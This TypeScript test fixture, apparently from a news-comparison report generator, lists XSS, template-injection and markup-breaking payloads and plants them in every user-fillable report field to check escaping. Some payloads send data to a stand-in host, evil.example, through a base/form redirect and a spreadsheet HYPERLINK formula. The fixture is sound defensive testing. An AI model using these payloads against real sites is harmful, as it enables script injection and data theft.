import { wholeAccount } from '../annotation/describe.ts';
import type { StoryRecord } from '../annotation/model.ts';
import type { Account, Comparison } from '../engine/index.ts';
import { reportInput } from '../report/input.ts';
import type { ReportInput } from '../report/model.ts';
import { miniAccount, miniComparison, miniFinding, miniLink, miniUtterance } from './mini-comparison.ts';
import { account, code, note, story } from './story-record.ts';

/** Texts that try to become markup, attributes, scripts or addresses, in the ways that are known. */
export const PAYLOADS: readonly string[] = [
  '<script>window.stolen = 1</script>',
  '</script><script>window.stolen = 2</script>',
  '</style><img src=x onerror="window.stolen = 3">',
  '</title></head><body onload=window.stolen=4>',
  '"><img src=x onerror=window.stolen=5>',
  "' onmouseover='window.stolen = 6' x='",
  '" autofocus onfocus="window.stolen = 7" x="',
  '`onclick=window.stolen=8`',
  '--><svg/onload=window.stolen=9><!--',
  '<![CDATA[<iframe srcdoc="<script>parent.stolen=10</script>">]]>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.stolen=11>',
  '&lt;script&gt;window.stolen = 12&lt;/script&gt; &#60;b&#62; &quot; &amp;lt;',
  'javascript:window.stolen=13',
  '\u0000<\u0000script>window.stolen = 14</script>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '\u202e<noscript><p title="</noscript><img src=x onerror=window.stolen=15>">',
  '<base href="https://evil.example/"><form action=//evil.example><input name=q>',
  '${window.stolen = 16} {{constructor.constructor("window.stolen = 17")()}} <%= 18 %>',
  '[x](javascript:window.stolen=19) ![y](https://evil.example/y.png) <https://evil.example/> | cell',
  '=HYPERLINK("https://evil.example/?"&A1) @SUM(1) +1 -1',
];

/** A comparison in which every field that a stranger can fill says `words`; its shape does not depend on them. */
export function reportSaying(words: string): ReportInput {
  const side = (id: string): Account => ({
    ...miniAccount(id, words, [quoteOf(words)]),
    title: words,
    byline: words,
    publisher: words,
    published: words,
    url: words,
    language: words,
    sentences: [{ start: 0, end: words.length, paragraph: 0, role: 'body' }],
    removals: [{ rawStart: 0, rawEnd: words.length, text: words, rule: words, reason: words }],
  });
  const accounts = [side('a'), side('b')];
  const span = (id: string) => ({ account: id, start: 0, end: words.length });
  const comparison: Comparison = {
    ...miniComparison([words, words], {
      links: [miniLink([0], [0])],
      utterances: [
        miniUtterance('u', words, [
          ['a', 0],
          ['b', 0],
        ]),
      ],
      findings: [
        miniFinding('f', {
          kind: 'only-here',
          spans: [span('a'), span('b')],
          explanation: words,
          rule: words,
        }),
      ],
    }),
    accounts,
    engine: { name: 'parallax', version: words, options: { said: words } },
    commonText: [{ id: 'c', words: 9, a: span('a'), b: span('b') }],
  };
  const lost = { position: null, quote: { exact: `gone ${words}`, prefix: '', suffix: '' } };
  const record: StoryRecord = {
    ...story,
    title: words,
    accounts: accounts.map(({ id }) => account(id, { text: words, inferred: { publisher: words } })),
    annotations: [
      note('1', {
        body: words,
        author: words,
        tags: ['c'],
        targets: accounts.map((each) => wholeAccount(each)),
      }),
      note('2', {
        body: words,
        targets: [{ ...wholeAccount(accounts[0]!), account: 'gone', selector: lost }],
      }),
    ],
    codebook: [code('c', { name: words, description: words })],
  };
  return reportInput(record, comparison, '2026-05-01T09:30:00.000Z', { title: words, foreword: words });
}

/** Every payload at once, in every field. */
export function hostileReport(): ReportInput {
  return reportSaying(PAYLOADS.join(' '));
}

function quoteOf(words: string): Account['quotes'][number] {
  const range = { start: 0, end: words.length };
  return {
    ...range,
    kind: 'direct',
    speaker: { ...range, name: words, mention: words },
    cue: { ...range, text: words, stance: 'neutral' },
    sentences: [0],
  };
}
